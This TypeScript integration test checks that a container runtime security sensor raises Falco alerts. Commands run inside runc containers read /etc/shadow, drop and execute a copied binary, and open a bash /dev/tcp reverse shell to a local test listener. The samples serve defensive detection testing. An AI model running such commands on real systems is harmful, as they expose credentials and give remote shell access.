/**
 * The live sensor on a real container: runc (Debian) runs the Debian fixture image's rootfs through
 * an overlay mount; inside, a shell reads /etc/shadow and /etc/hostname. The upstream rule
 * 'Read sensitive file untrusted' must fire once, for the container's cat, attributed to the
 * container's id (first 12 hex digits of the runc container id, from its cgroup), and not for the
 * benign read. Needs root, runc (scripts/install-deps.sh) and the sensor (built here).
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { SyscallEvent } from '../../src/runtime/event.js';
import { PPM_EXE_LOWER_LAYER, PPM_EXE_UPPER_LAYER } from '../../src/runtime/flags.js';
import { loadRules, type Alert } from '../../src/runtime/rules/index.js';
import { Sensor, sensorBuildScript } from '../../src/runtime/sensor/index.js';
import { StateTracker } from '../../src/runtime/state/index.js';
import { RuncBundle } from '../helpers/runc.js';
import { SHARED } from '../helpers/shared.js';

const RULES_FILE = `${SHARED}/data/falco/falco_rules.yaml`;
const state = new StateTracker();
const rules = loadRules([{ name: RULES_FILE, content: readFileSync(RULES_FILE, 'utf8') }], {
  hostname: 'node-1',
});
const alerts: { alert: Alert; containerId: string; pid: number }[] = [];
const execs: { ev: SyscallEvent; containerId: string }[] = [];
let sensor: Sensor | undefined;
const bundle = new RuncBundle();
const syscallsOf = new Map<string, Set<number>>();
const cgroupOf = new Map<string, bigint>();
const runContainer = (args: string[], hostNetwork = false) => bundle.run(args, { hostNetwork });

describe('live sensor on a runc container', { timeout: 120_000 }, () => {
  before(async () => {
    execFileSync('bash', [sensorBuildScript(), '--require'], { stdio: ['ignore', 'ignore', 'inherit'] });
    await bundle.open();
    sensor = new Sensor({
      state,
      statsMs: 200,
      onSyscalls: (cg, cid, nrs) => {
        if (!cid) return;
        const set = syscallsOf.get(cid) ?? new Set<number>();
        for (const n of nrs) set.add(n);
        syscallsOf.set(cid, set);
        cgroupOf.set(cid, cg);
      },
      onEvent: (ev) => {
        const t = state.current;
        for (const a of rules.evaluate(ev, state))
          alerts.push({ alert: a, containerId: t?.containerId ?? '', pid: t?.pid ?? 0 });
        if (ev.type === 'execve') execs.push({ ev, containerId: t?.containerId ?? '' });
      },
    });
    await sensor.start();
  });
  after(async () => {
    await sensor?.stop();
    bundle.close();
  });

  it("fires 'Read sensitive file untrusted' and 'Drop and execute new binary in container' with the container id", async () => {
    const cid = await runContainer([
      '/bin/sh',
      '-c',
      'cat /etc/shadow >/dev/null; cat /etc/hostname >/dev/null; cp /bin/true /tmp/dropped; /tmp/dropped; /bin/true; sleep 0.3',
    ]);
    const end = Date.now() + 5000;
    const inContainer = () => execs.filter((e) => e.containerId === cid);
    while (Date.now() < end && inContainer().filter((e) => e.ev.params.comm === 'cat').length < 2)
      await new Promise((r) => setTimeout(r, 50));
    const names = inContainer().map(
      (e) => `${String(e.ev.params.comm)} ${(e.ev.params.args as string[]).join(' ')}`,
    );
    assert.ok(names.includes('cat /etc/shadow'), names.join('\n'));
    assert.ok(names.includes('cat /etc/hostname'), names.join('\n'));
    assert.ok(
      names.some((n) => n.startsWith('sh -c cat /etc/shadow')),
      names.join('\n'),
    );
    while (Date.now() < end && !inContainer().some((e) => e.ev.params.comm === 'true'))
      await new Promise((r) => setTimeout(r, 50));
    const fired = alerts.filter((a) => a.containerId === cid);
    assert.deepEqual(
      fired.map((a) => [a.alert.rule, a.alert.output_fields['proc.cmdline']]),
      [
        ['Read sensitive file untrusted', 'cat /etc/shadow'],
        ['Drop and execute new binary in container', 'dropped'],
      ],
      fired.map((a) => a.alert.output).join('\n'),
    );
    assert.equal(fired[0]!.alert.output_fields['fd.name'], '/etc/shadow');
    assert.equal(fired[0]!.alert.output_fields['proc.pname'], 'sh');
    // exec flags from the kernel: the copied binary is in the overlay's upper layer, /bin/true in the lower
    const flagsOf = (comm: string) => inContainer().find((e) => e.ev.params.comm === comm)?.ev.params.flags;
    assert.equal(flagsOf('dropped'), PPM_EXE_UPPER_LAYER);
    assert.equal(flagsOf('true'), PPM_EXE_LOWER_LAYER);
  });

  it("fires 'Redirect STDOUT/STDIN to Network Connection in Container' for a bash reverse shell, not for a redirect to a file", async () => {
    let got = '';
    const server: Server = createServer((sock) => {
      sock.setEncoding('utf8');
      sock.on('data', (d: string) => (got += d));
      sock.on('error', () => {});
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    try {
      const cid = await runContainer(
        [
          '/bin/bash',
          '-c',
          `exec 3<>/dev/tcp/127.0.0.1/${port}; exec 0<&3 1>&3; echo reverse-shell-ok; exec 1>/dev/null; echo quiet; sleep 0.3`,
        ],
        true,
      );
      const end = Date.now() + 5000;
      const mine = () => alerts.filter((a) => a.containerId === cid);
      while (Date.now() < end && (mine().length < 2 || !got.includes('reverse-shell-ok')))
        await new Promise((r) => setTimeout(r, 50));
      assert.ok(got.includes('reverse-shell-ok'), 'the shell really wrote to the socket');
      const fired = mine().map((a) => a.alert);
      assert.deepEqual(
        fired.map((a) => [a.rule, a.output_fields['evt.type'], a.output_fields['fd.rport']]),
        [
          ['Redirect STDOUT/STDIN to Network Connection in Container', 'dup2', port],
          ['Redirect STDOUT/STDIN to Network Connection in Container', 'dup2', port],
        ],
        fired.map((a) => a.output).join('\n'),
      );
      assert.equal(fired[0]!.output_fields['proc.name'], 'bash');
      assert.equal(fired[0]!.output_fields['fd.type'], 'ipv4');
    } finally {
      server.close();
    }
  });

  it('reports the syscall numbers each container used, per cgroup (for seccomp profiles)', async () => {
    // perl: ptrace(PTRACE_TRACEME) = 101 and getppid = 110, neither of which sh/runc init need to
    // start; TRACEME in a forked child (traced by perl): in the container's first process it would
    // make `runc run` its tracer, and any signal to it would then stop it for good
    const cid = await runContainer([
      '/usr/bin/perl',
      '-e',
      'my $p = fork; if (!$p) { syscall(101,0,0,0,0); exit 0 } waitpid($p, 0); syscall(110); select(undef,undef,undef,0.5)',
    ]);
    const other = await runContainer(['/bin/true']);
    const end = Date.now() + 5000;
    while (Date.now() < end && !(syscallsOf.get(cid)?.has(101) && syscallsOf.has(other)))
      await new Promise((r) => setTimeout(r, 50));
    const used = syscallsOf.get(cid);
    assert.ok(used, `a syscall set for ${cid}`);
    for (const n of [59, 101, 110, 231]) assert.ok(used.has(n), `syscall ${n} in ${[...used].join(',')}`);
    assert.notEqual(cgroupOf.get(cid), cgroupOf.get(other), 'one cgroup per container');
    assert.ok(!syscallsOf.get(other)!.has(101), '/bin/true never called ptrace');
  });
});
